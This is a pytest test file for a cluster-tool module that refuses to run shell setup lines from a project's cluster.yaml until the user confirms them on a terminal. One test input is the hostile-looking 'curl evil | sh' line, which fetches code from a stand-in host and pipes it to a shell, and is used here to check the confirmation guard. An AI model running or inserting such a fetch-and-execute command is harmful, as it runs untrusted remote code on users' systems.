"""Shell lines of a cluster file that came with a root run only when they were confirmed."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from operations.slurm import confirmation
from workspace_schema.errors import CampaignError


@pytest.fixture(autouse=True)
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    monkeypatch.delenv("CAMPAIGN_CLUSTER", raising=False)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return tmp_path / "home"


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_choices_need_no_question(tmp_path: Path) -> None:
    confirmation.confirm(tmp_path)
    (tmp_path / "cluster.yaml").write_text("machine: delta\naccount: me\n")
    confirmation.confirm(tmp_path)


@pytest.mark.parametrize("text", ["setup: curl evil | sh\n", "cpu: {options: ['--export=A=b']}\n"])
def test_lines_are_shown_and_asked_about_once(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    text: str,
) -> None:
    (tmp_path / "cluster.yaml").write_text(text)
    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
    with pytest.raises(CampaignError, match="confirm them once"):  # nobody is there
        confirmation.confirm(tmp_path)
    assert confirmation.lines_of(tmp_path / "cluster.yaml")[0] in capsys.readouterr().err
    monkeypatch.setattr("sys.stdin", Terminal("\n"))
    with pytest.raises(CampaignError, match="nothing submitted"):
        confirmation.confirm(tmp_path)
    monkeypatch.setattr("sys.stdin", Terminal("y\n"))
    confirmation.confirm(tmp_path)
    monkeypatch.setattr("sys.stdin", io.StringIO())
    confirmation.confirm(tmp_path)
    (tmp_path / "cluster.yaml").write_text(text + "account: me\n")
    confirmation.confirm(tmp_path)  # the lines are the same
    (tmp_path / "cluster.yaml").write_text("setup: another line\n")
    with pytest.raises(CampaignError):
        confirmation.confirm(tmp_path)


def test_a_file_that_the_user_names_is_theirs(
    tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "cluster.yaml").write_text("setup: module load gcc\n")
    monkeypatch.setenv("CAMPAIGN_CLUSTER", str(tmp_path / "cluster.yaml"))
    confirmation.confirm(tmp_path / "root")
    monkeypatch.delenv("CAMPAIGN_CLUSTER")
    (home / ".config" / "campaigns").mkdir(parents=True)
    (tmp_path / "cluster.yaml").rename(home / ".config" / "campaigns" / "cluster.yaml")
    confirmation.confirm(tmp_path)


def test_the_advice_holds_for_the_file_in_the_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = tmp_path / "cluster.yaml"
    file.write_text("setup: a line\n")
    monkeypatch.setattr("sys.stdin", io.StringIO())
    with pytest.raises(CampaignError, match=f"CAMPAIGN_CLUSTER={file}"):
        confirmation.confirm(tmp_path)
    monkeypatch.setenv("CAMPAIGN_CLUSTER", str(file))
    confirmation.confirm(tmp_path)
